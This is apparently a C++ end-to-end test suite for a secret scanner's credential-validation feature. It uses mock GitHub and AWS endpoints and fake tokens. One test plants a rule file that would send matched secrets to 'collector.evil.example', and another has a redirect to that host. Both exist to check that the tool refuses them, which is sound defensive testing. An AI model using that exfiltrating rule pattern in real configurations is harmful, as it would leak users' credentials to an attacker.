// End to end: `nhi scan --validate` against a mock provider on loopback (tests/support/
// mock_server), through the test-only override. The real binary, the real rules, the real
// datastore: what is sent where, what comes back into the output and the inventory, and that
// nothing of a secret is kept or logged.
#include <catch2/catch.hpp>

#include <atomic>
#include <sstream>

#include "support.hpp"
#include "support/mock_server.hpp"
#include "util/hash.hpp"

namespace nhi::test {
namespace {

// Classic GitHub tokens with their CRC-32: one the mock says is live, one revoked.
const std::string kLive = fake_github_token(1), kRevoked = fake_github_token(2);

// GitHub's /user as the rule declares it: `Authorization: token <secret>`.
MockResponse github(const MockRequest& r) {
    if (r.target != "/api.github.com/user") return {404, {}, "{}"};
    if (r.header("authorization") == "token " + kLive)
        return {200, {{"X-OAuth-Scopes", "repo, read:org"}}, R"({"login":"deploy-bot","id":4242,"name":"Deploy Bot"})"};
    return {401, {}, R"({"message":"Bad credentials"})"};
}

// `nhi ARGS` with the override pointing at `server`.
Result run_validating(MockServer& server, const std::string& args, const fs::path& cwd) {
    return run_shell("NHI_TEST_ONLY_VALIDATION_URL='" + server.base_url() + "' NHI_TEST_ONLY_VALIDATION_CA='" +
                         server.ca_file() + "' NHI_CACHE_DIR='" +
                         (fs::temp_directory_path() / "nhi-test-cache").string() + "' CI=true '" NHI_BINARY "' " + args,
                     cwd);
}

nlohmann::json finding_at(const nlohmann::json& doc, const std::string& path) {
    for (const auto& f : doc["findings"])
        if (f["path"] == path) return f;
    return {};
}

}  // namespace

TEST_CASE("scan --validate: live and revoked outcomes in JSON, text and the summary", "[e2e][validate]") {
    MockServer server(github);
    TempDir d;
    d.write("src/live.env", "GITHUB_TOKEN=" + kLive + "\n");
    d.write("src/old.env", "GITHUB_TOKEN=" + kRevoked + "\n");
    d.write("src/again.env", "token: " + kLive + "\n");  // the same secret: asked once

    auto r = run_validating(server, "scan . --validate --format json --no-db", d.path());
    INFO(r.err);
    REQUIRE(r.code == 1);
    auto doc = nlohmann::json::parse(r.out);
    auto live = finding_at(doc, "src/live.env"), old = finding_at(doc, "src/old.env");
    REQUIRE(live.contains("validation"));
    CHECK(live["validation"]["status"] == "live");
    CHECK(live["validation"]["http_status"] == 200);
    CHECK(live["validation"]["identity"]["login"] == "deploy-bot");
    CHECK(live["validation"]["identity"]["scopes"] == nlohmann::json::array({"repo", "read:org"}));
    CHECK(old["validation"]["status"] == "revoked");
    CHECK(finding_at(doc, "src/again.env")["validation"]["status"] == "live");
    CHECK(server.request_count() == 2);
    CHECK(doc["summary"]["validation"]["checked"] == 2);
    CHECK(doc["summary"]["validation"]["live"] == 1);
    CHECK(doc["summary"]["validation"]["revoked"] == 1);

    // Off by default: no request at all.
    server.clear_requests();
    auto plain = run_validating(server, "scan . --format json --no-db", d.path());
    CHECK(plain.code == 1);
    CHECK(server.request_count() == 0);
    CHECK_FALSE(nlohmann::json::parse(plain.out)["findings"][0].contains("validation"));

    // Text shows the outcome; --only-valid keeps the live ones only.
    auto text = run_validating(server, "scan . --validate --no-db", d.path());
    CHECK(text.out.find("live") != std::string::npos);
    auto only = run_validating(server, "scan . --validate --only-valid --format json --no-db", d.path());
    auto only_doc = nlohmann::json::parse(only.out);
    REQUIRE(only_doc["findings"].size() == 2);
    for (const auto& f : only_doc["findings"]) CHECK(f["validation"]["status"] == "live");
    auto needs = run_nhi("scan . --only-valid --no-db", d.path());
    CHECK(needs.code == 2);
    CHECK(needs.err.find("nhi: error: --only-valid: needs --validate") != std::string::npos);
}

TEST_CASE("scan --validate: nothing of a secret reaches the datastore or the logs", "[e2e][validate]") {
    // A provider that echoes the token back in its answer and headers.
    MockServer server([](const MockRequest& r) {
        std::string token = r.header("authorization").substr(6);
        return MockResponse{200, {{"X-OAuth-Scopes", token}}, R"({"login":")" + token + R"(","id":1})"};
    });
    TempDir d;
    d.write("app.env", "GITHUB_TOKEN=" + kLive + "\n");
    auto r = run_validating(server, "scan . --validate --format jsonl -v", d.path());
    REQUIRE(r.code == 1);
    CHECK(r.out.find(kLive) == std::string::npos);
    CHECK(r.err.find(kLive) == std::string::npos);
    std::string stored;
    for (const auto& e : fs::recursive_directory_iterator(d / ".nhi"))
        if (e.is_regular_file()) stored += read_file(e.path());
    REQUIRE_FALSE(stored.empty());
    CHECK(stored.find(kLive) == std::string::npos);
    CHECK(stored.find(kLive.substr(4, 20)) == std::string::npos);
    // The control: the datastore does hold the outcome.
    CHECK(stored.find("live") != std::string::npos);
}

TEST_CASE("scan --validate: a repository can turn validation off, never add or move a target", "[e2e][validate]") {
    MockServer server(github);
    TempDir d;
    d.write("app.env", "GITHUB_TOKEN=" + kLive + "\n");

    d.write(".nhi.yml", "validate: false\n");
    auto off = run_validating(server, "scan . --validate --no-db", d.path());
    CHECK(off.code == 1);
    CHECK(server.request_count() == 0);
    CHECK(off.err.find("validate: false; --validate is ignored") != std::string::npos);

    // A rule file the repository brings cannot declare where a secret goes.
    d.write("rules/steal.yml", R"(provider: evil
rules:
  - id: evil.ghp
    name: steal
    pattern: '(?<secret>ghp_[A-Za-z0-9]{36})'
    examples: ['ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa']
    negative_examples: ['no']
    validate: {url: 'https://collector.evil.example/', headers: {X: '{secret}'}, live: {status: [200]}}
)");
    d.write(".nhi.yml", "validate: true\nrules: [rules/steal.yml]\n");
    auto added = run_validating(server, "scan . --no-db", d.path());
    CHECK(added.code == 2);
    CHECK(added.err.find("validate: is accepted only in built-in rules") != std::string::npos);
    d.write(".nhi.yml", "validate: {url: 'https://collector.evil.example/'}\n");
    auto moved = run_validating(server, "scan . --no-db", d.path());
    CHECK(moved.code == 2);
    CHECK(moved.err.find("`validate` must be") != std::string::npos);
    CHECK(server.request_count() == 0);

    // `validate: true` alone turns it on.
    d.write(".nhi.yml", "validate: true\n");
    auto on = run_validating(server, "scan . --format json --no-db", d.path());
    CHECK(nlohmann::json::parse(on.out)["findings"][0]["validation"]["status"] == "live");
}

TEST_CASE("scan --validate: redirects are not followed and the override is loopback only", "[e2e][validate]") {
    MockServer server([](const MockRequest&) {
        return MockResponse{302, {{"Location", "https://collector.evil.example/user"}}, ""};
    });
    TempDir d;
    d.write("app.env", "GITHUB_TOKEN=" + kLive + "\n");
    auto r = run_validating(server, "scan . --validate --format json --no-db", d.path());
    REQUIRE(r.code == 1);
    auto v = nlohmann::json::parse(r.out)["findings"][0]["validation"];
    CHECK(v["status"] == "unknown");
    CHECK(v["reason"] == "redirect not followed");
    CHECK(server.request_count() == 1);

    auto remote = run_shell("NHI_TEST_ONLY_VALIDATION_URL=https://api.github.com CI=true '" NHI_BINARY
                            "' scan . --validate --no-db",
                            d.path());
    CHECK(remote.code == 2);
    CHECK(remote.err.find("nhi: error: NHI_TEST_ONLY_VALIDATION_URL: only an https URL on a loopback host") !=
          std::string::npos);
}

TEST_CASE("scan --validate: a slow or failing provider never fails the scan", "[e2e][validate]") {
    std::atomic<int> n{0};
    MockServer server([&](const MockRequest&) {
        ++n;
        return MockResponse{200, {}, "not json at all", 0};
    });
    TempDir d;
    d.write("app.env", "GITHUB_TOKEN=" + kLive + "\n");
    auto r = run_validating(server, "scan . --validate --format json --no-db", d.path());
    CHECK(r.code == 1);  // the finding, not an error
    auto doc = nlohmann::json::parse(r.out);
    CHECK(doc["findings"][0]["validation"]["status"] == "unknown");
    CHECK(doc["summary"]["validation"]["unknown"] == 1);
    CHECK(n == 1);
}

}  // namespace nhi::test

namespace nhi::test {

TEST_CASE("nhi validate re-checks kept secrets, and says why it cannot otherwise", "[e2e][validate]") {
    MockServer server(github);
    TempDir d;
    d.write("app.env", "GITHUB_TOKEN=" + kLive + "\n");
    d.write("old.env", "GITHUB_TOKEN=" + kRevoked + "\n");

    // Without --store-secrets there is nothing to re-send.
    REQUIRE(run_nhi("scan .", d.path()).code == 1);
    auto none = run_validating(server, "validate", d.path());
    CHECK(none.code == 2);
    CHECK(none.err.find("nhi keeps no plaintext unless a scan ran with --store-secrets") != std::string::npos);
    CHECK(none.err.find("nhi scan PATH --validate") != std::string::npos);
    CHECK(server.request_count() == 0);

    REQUIRE(run_nhi("scan . --store-secrets", d.path()).code == 1);
    auto r = run_validating(server, "validate --format json", d.path());
    INFO(r.err);
    CHECK(r.code == 1);  // a live secret
    auto doc = nlohmann::json::parse(r.out);
    REQUIRE(doc["findings"].size() == 2);
    std::map<std::string, std::string> status;
    for (const auto& f : doc["findings"]) status[f["path"]] = f["validation"]["status"];
    CHECK(status["app.env"] == "live");
    CHECK(status["old.env"] == "revoked");
    CHECK(doc["summary"]["validation"]["checked"] == 2);
    CHECK(server.request_count() == 2);

    // The outcome is in the datastore: a later scan's findings carry it without asking again.
    auto text = run_validating(server, "validate", d.path());
    CHECK(text.out.find("live") != std::string::npos);
    CHECK(text.out.find("2 re-checked: 1 live, 1 revoked") != std::string::npos);
}

}  // namespace nhi::test

namespace nhi::test {

TEST_CASE("scan --validate: a live AWS key links to the imported IAM user, and report risk says critical",
          "[e2e][validate]") {
    // STS GetCallerIdentity, signed: the key id must be in the SigV4 Credential.
    const std::string key_id = "AKIAQ3EGRVPBMY7T2K4N", secret = "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";
    MockServer server([&](const MockRequest& r) {
        if (r.target != "/sts.amazonaws.com/" || r.method != "POST") return MockResponse{404, {}, "{}"};
        if (r.header("authorization").find("Credential=" + key_id + "/") == std::string::npos)
            return MockResponse{403, {}, R"({"Error":{"Code":"InvalidClientTokenId"}})"};
        return MockResponse{200, {}, R"({"GetCallerIdentityResponse":{"GetCallerIdentityResult":{)"
                                     R"("Arn":"arn:aws:iam::111122223333:user/service/ci-deployer",)"
                                     R"("Account":"111122223333","UserId":"AIDAQ3EGRVPBCIDEPLOY1"}}})"};
    });
    TempDir d;
    const fs::path exports = fs::path(NHI_FIXTURES) / "exports" / "aws";
    REQUIRE(run_nhi("inventory import '" + (exports / "authorization-details.json").string() + "'", d.path()).code == 0);
    d.write("deploy/ci.env", "AWS_ACCESS_KEY_ID=" + key_id + "\nAWS_SECRET_ACCESS_KEY=" + secret + "\n");

    auto r = run_validating(server, "scan deploy --validate --format json", d.path());
    INFO(r.err);
    REQUIRE(r.code == 1);
    auto doc = nlohmann::json::parse(r.out);
    nlohmann::json v;
    for (const auto& f : doc["findings"])
        if (f["rule"] == "nhi.aws.secret-access-key") v = f["validation"];
    CHECK(v["status"] == "live");
    CHECK(v["identity"]["arn"] == "arn:aws:iam::111122223333:user/service/ci-deployer");
    REQUIRE(server.request_count() == 1);
    // The revocation steps name the user the answer gave and the key id, redacted.
    for (const auto& f : doc["findings"]) {
        const std::string step = f["revocation"];
        if (f["rule"] == "nhi.aws.secret-access-key") CHECK(step.find("--user-name ci-deployer") != std::string::npos);
        if (f["rule"] == "nhi.aws.access-key-id") {
            CHECK(step.find("--access-key-id " + f["redacted"].get<std::string>() + " ") != std::string::npos);
            CHECK(step.find("{") == std::string::npos);
        }
    }
    CHECK(r.out.find(key_id) == std::string::npos);

    auto show = run_nhi("inventory show ci-deployer --format json", d.path());
    REQUIRE(show.code == 0);
    INFO(show.out);
    CHECK(show.out.find("\"key\": \"validation:nhi.aws.secret-access-key:") != std::string::npos);
    CHECK(show.out.find("\"live\"") != std::string::npos);

    auto risk = run_nhi("report risk --format json", d.path());
    auto rows = nlohmann::json::parse(risk.out)["rows"];
    nlohmann::json row;
    for (const auto& x : rows)
        if (x.value("name", "") == "ci-deployer") row = x;
    REQUIRE(row.is_object());
    CHECK(row["tier"] == "critical");
    CHECK(row.dump().find("exposed-live") != std::string::npos);

    // Without the key id beside it the secret cannot be signed for: unknown, nothing sent.
    server.clear_requests();
    d.write("lone/app.env", "AWS_SECRET_ACCESS_KEY=" + secret + "\n");
    auto lone = run_validating(server, "scan lone --validate --format json --no-db", d.path());
    auto lv = nlohmann::json::parse(lone.out)["findings"][0]["validation"];
    CHECK(lv["status"] == "unknown");
    CHECK(lv["reason"] == "no key_id found beside the secret");
    CHECK(server.request_count() == 0);
}

TEST_CASE("scan --git --validate: a rescan keeps the stored outcome of blobs it does not read again",
          "[e2e][validate][git]") {
    MockServer server(github);
    TempDir d;
    d.write("repo/app.env", "GITHUB_TOKEN=" + kLive + "\n");
    REQUIRE(run_shell("git init -q repo && cd repo && git add -A && git -c user.name=t -c user.email=t@e "
                      "commit -qm one",
                      d.path())
                .code == 0);
    auto first = run_validating(server, "scan --git repo --validate --format json", d.path());
    INFO(first.err);
    REQUIRE(first.code == 1);
    CHECK(nlohmann::json::parse(first.out)["findings"][0]["validation"]["status"] == "live");
    REQUIRE(server.request_count() == 1);

    // The blob is known now: its plaintext is not kept, so nothing is sent, and the earlier
    // answer (not an "unknown") is what the finding shows, with or without --validate.
    auto again = run_validating(server, "scan --git repo --validate --format json", d.path());
    CHECK(nlohmann::json::parse(again.out)["findings"][0]["validation"]["status"] == "live");
    auto plain = run_nhi("scan --git repo --format json", d.path());
    CHECK(nlohmann::json::parse(plain.out)["findings"][0]["validation"]["status"] == "live");
    CHECK(server.request_count() == 1);
}

}  // namespace nhi::test
